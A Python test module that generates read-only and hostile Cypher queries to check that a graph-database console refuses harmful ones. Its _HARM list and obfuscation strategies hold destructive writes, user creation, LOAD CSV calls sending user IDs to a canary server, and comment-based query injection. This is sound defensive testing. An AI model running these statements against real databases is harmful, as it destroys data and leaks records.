"""Made-up statements: reads of every kind, writes, and tricks that look like reads. Each says what it is."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Final

from hypothesis import strategies as st

from graph.vocabulary import LABELS, PROPERTIES, TYPES

PORT: Final = "PORT"
"""Stands for the port of the canary server."""
FILE: Final = "FILE"
"""Stands for the path of the canary file."""


@dataclass(frozen=True, slots=True)
class Made:
    """A statement; `harm` says that the console must refuse it."""

    text: str
    harm: bool


labels = st.sampled_from(sorted(LABELS))
types = st.sampled_from(sorted(TYPES))
names = st.sampled_from(sorted(PROPERTIES - {"searchTokens"}))
secret = st.sampled_from(
    ["key", "value", "recordKey", "recordId", "traits", "vin", "payload", "why", "content"]
)
anyname = st.one_of(names, secret, secret)

_NODES: Final = ("n", "m", "startNode(r)", "endNode(r)", "nodes(p)[0]", "last(nodes(p))", "[n, m][1]")
_RELATIONS: Final = ("r", "relationships(p)[0]", "head([r])")
entity = st.sampled_from([*_NODES, *_RELATIONS, "r", "n", "m"])


@st.composite
def reached(draw: st.DrawFn) -> str:
    """A property, however one may reach it."""
    e, name = draw(entity), draw(anyname)
    half = draw(st.integers(1, max(1, len(name) - 1)))
    return draw(
        st.sampled_from(
            [
                f"{e}.{name}",
                f"{e}.`{name}`",
                f"{e}[$k]",
                f"{e}['{name}']",
                f"{e}['{name[:half]}' + '{name[half:]}']",
                f"{e}['search' + 'Tokens']",
                f"properties({e})['{name}']",
                f"properties({e})[$k]",
                f"({e} {{.*}})['{name}']",
                f"{{x: {e}.{name}}}.x",
                f"[{e}.{name}][0]",
                f"head([k IN keys({e}) WHERE k = '{name}' | {e}[k]])",
                f"coalesce({e}.{name}, {e}.value, {e}.key)",
                f"CASE WHEN {e}.{name} IS NULL THEN {e}.key ELSE {e}.{name} END",
            ]
        )
    )


@st.composite
def shown(draw: st.DrawFn) -> str:
    """An expression over entities, or over a value that was reached."""
    e, v, w = draw(entity), draw(reached()), draw(reached())
    name = draw(anyname)
    return draw(
        st.sampled_from(
            [
                v,
                e,
                "p",
                f"properties({e})",
                f"{e} {{.*}}",
                f"{e} {{.{name}, other: {v}}}",
                f"{{key: {v}, value: {w}, deep: [{v}, {{a: {e}}}]}}",
                f"[k IN keys({e}) | {e}[k]]",
                f"[k IN keys({e}) | k + '=' + toStringOrNull({e}[k])]",
                f"collect({v})",
                f"collect(DISTINCT {e})",
                f"collect({e} {{.*}})",
                f"toStringOrNull({v})",
                f"'x' + toStringOrNull({v}) + 'y'",
                f"toStringOrNull({v}) + toStringOrNull({w})",
                f"substring(toStringOrNull({v}), 0)",
                f"left(toStringOrNull({v}), 30)",
                f"trim(replace(toStringOrNull({v}), '\u00a7', ''))",
                f"split(toStringOrNull({v}), '\u00a7')",
                f"reverse(reverse(toStringOrNull({v})))",
                f"{v}[0..200]",
                f"[x IN {v} | x]",
                f"reduce(s = '', x IN {v} | s + toStringOrNull(x) + ',')",
                f"tail([0] + {v})",
                f"min({v})",
                f"[{v}, {w}]",
                "nodes(p)",
                "relationships(p)",
                "[x IN nodes(p) | properties(x)]",
                f"[(n)-[q]-(o) | o.{name}]",
                "[(n)-[q]-(o) | q {.*, o: o}]",
                f"COLLECT {{ MATCH (n)--(o) RETURN o.{name} LIMIT 9 }}",
                f"size(toStringOrNull({v}))",
                f"{v} = {w}",
                f"date({v})",
                f"toInteger({v}) / 0",
                f"datetime({v}).epochMillis",
                f"duration({v})",
                f"point({{x: {v}, y: 1}})",
            ]
        )
    )


@st.composite
def pattern(draw: st.DrawFn) -> str:
    """A MATCH that binds n, r, m and p."""
    label, kind = draw(labels), draw(types)
    return draw(
        st.sampled_from(
            [
                "MATCH p = (n)-[r]->(m)",
                f"MATCH p = (n:{label})-[r]-(m)",
                f"MATCH p = (n)-[r:{kind}]->(m)",
                "MATCH p = (n:Profile)-[r:HAS|CLAIMS]->(m)",
                "MATCH p = (n:Profile)-[r:DRIVES]->(m)",
                "MATCH p = (n:Profile)-[r:BROUGHT]->(m)",
                "MATCH p = (n:Profile)-[r:RESOLVED_TO]->(m:User)",
                f"MATCH (x:{label}) WITH x LIMIT 3 MATCH p = (n)-[r]->(m) WHERE n = x OR m = x",
                "MATCH p = (n:Profile)-[*1..2]-(m) WITH n, m, p, relationships(p)[0] AS r",
            ]
        )
    )


@st.composite
def reads(draw: st.DrawFn) -> str:
    """A statement that only reads."""
    before = draw(pattern())
    columns = ", ".join(f"{draw(shown())} AS c{n}" for n in range(draw(st.integers(1, 3))))
    tail = draw(st.sampled_from([" LIMIT 20", " SKIP 1 LIMIT 15", " ORDER BY toStringOrNull(c0) LIMIT 20"]))
    form = draw(st.integers(0, 3))
    if form == 0:
        return f"{before} WITH n, r, m, p LIMIT 40 CALL (n, r, m, p) {{ RETURN {columns} }} RETURN * LIMIT 20"
    if form == 1:
        return f"{before} RETURN DISTINCT {columns}{tail}"
    if form == 2:
        return f"{before} WITH n, r, m, p LIMIT 30 RETURN {columns} UNION {before} RETURN {columns}{tail}"
    return f"{before} WITH n, r, m, p LIMIT 60 RETURN {columns}{tail}"


_HARM: Final = (
    "CREATE (:Evil)",
    "MATCH (n) SET n.evil = 1",
    "MATCH (n) DETACH DELETE n",
    "MATCH (n:User) REMOVE n.oneId RETURN n",
    "MERGE (n:Evil {a: 1}) RETURN n",
    "UNWIND [1] AS x CALL (x) { CREATE (e:Evil) RETURN e } RETURN e",
    "MATCH (n) CALL (n) { SET n.evil = 1 } IN TRANSACTIONS OF 1 ROWS",
    "FOREACH (x IN [1] | CREATE (:Evil))",
    "CREATE INDEX evil FOR (n:Evil) ON (n.a)",
    "CREATE USER evil SET PASSWORD 'evil-evil'",
    "LOAD CSV FROM 'http://127.0.0.1:PORT/x' AS line RETURN line",
    "LOAD CSV WITH HEADERS FROM 'file:///FILE' AS line RETURN line",
    "MATCH (u:User) LOAD CSV FROM 'http://127.0.0.1:PORT/' + u.oneId AS line RETURN line",
    "WITH 'http://127.0.0.1:PORT/' AS u LOAD CSV FROM u AS line RETURN line",
    "CALL { LOAD CSV FROM 'ftp://127.0.0.1:PORT/x' AS line RETURN line } RETURN line",
    "SHOW TRANSACTIONS",
    "SHOW SETTINGS YIELD name, value RETURN name, value",
    "SHOW USERS",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "USE system SHOW DATABASES",
    "USE neo4j MATCH (n) RETURN n",
    "CALL dbms.listConfig()",
    "CALL tx.setMetaData({app: 'x', run: 'y'})",
    "CALL db.clearQueryCaches()",
    "CALL db.createLabel('Evil')",
    "CALL db.index.fulltext.queryNodes('search_tokens', 'a*') YIELD node RETURN node",
    "MATCH (n) CALL db.index.fulltext.queryNodes('search_tokens', n.city) YIELD node RETURN node",
    "CALL apoc.load.json('http://127.0.0.1:PORT/x')",
    "CALL dbms.killQuery('x')",
    "RETURN apoc.cypher.runFirstColumnSingle('CREATE (n:Evil) RETURN n', {}) AS x",
    "RETURN [x IN [1] | genai.vector.encode('x', 'OpenAI', {})] AS x",
    "RETURN linenumber(), file()",
    "RETURN 1; CREATE (:Evil)",
    "RETURN 1; LOAD CSV FROM 'http://127.0.0.1:PORT/x' AS line RETURN line",
    "EXPLAIN CREATE (:Evil)",
    "PROFILE CREATE (:Evil)",
    "CYPHER 5 PROFILE CREATE (:Evil)",
    "CYPHER runtime=slotted CREATE (:Evil)",
    "MATCH (n:`a\\u0060) CREATE (:Evil) //`) RETURN n",
    "RETURN 'a\\u0027 AS x CREATE (:Evil) //' AS y",
    "MATCH (n) RETURN n.searchTokens AS t",
)


@st.composite
def disguised(draw: st.DrawFn) -> str:
    """Something harmful in other clothes: cases, white space, comments, strings and reads around it."""
    text = draw(st.sampled_from(_HARM))
    for _ in range(draw(st.integers(0, 3))):
        kind = draw(st.integers(0, 6))
        if kind == 0:
            text = f"/* {draw(st.sampled_from(['MATCH (n) RETURN n', '`', chr(39), '//']))} */ {text}"
        elif kind == 1:
            text = f"// RETURN 1\n{text}"
        elif kind == 2:
            text = text.replace(" ", draw(st.sampled_from(["\n", "\t", "  ", " /**/ ", "\r\n", "\u2003"])))
        elif kind == 3:
            text = f"{text} // LIMIT 1"
        elif kind == 4:
            text = f"\n\n{text}\n;\n"
        elif kind == 5 and "'" not in text:
            text = text.swapcase()
        elif kind == 6:
            text = f"{text} /* '"  # without an end
    return text


@st.composite
def spliced(draw: st.DrawFn) -> str:
    """Harm in the middle of a read."""
    harm = draw(st.sampled_from(_HARM))
    return draw(
        st.sampled_from(
            [
                f"MATCH (n) WITH n LIMIT 1 {harm}",
                f"UNWIND [1, 2] AS x {harm}",
                f"CALL {{ {harm} }} RETURN 1 AS y",
                f"MATCH (n) RETURN n UNION {harm}",
                f"MATCH (n) WHERE EXISTS {{ {harm} }} RETURN n",
                f"RETURN COLLECT {{ {harm} }} AS x",
            ]
        )
    )


def statements() -> st.SearchStrategy[Made]:
    """Two reads for each harm."""
    return st.one_of(
        reads().map(lambda text: Made(text, harm=False)),
        reads().map(lambda text: Made(text, harm=False)),
        st.one_of(disguised(), spliced()).map(lambda text: Made(text, harm=True)),
    )


parameters: st.SearchStrategy[dict[str, Any]] = st.one_of(anyname, st.just("searchTokens")).map(
    lambda k: {"k": k}
)
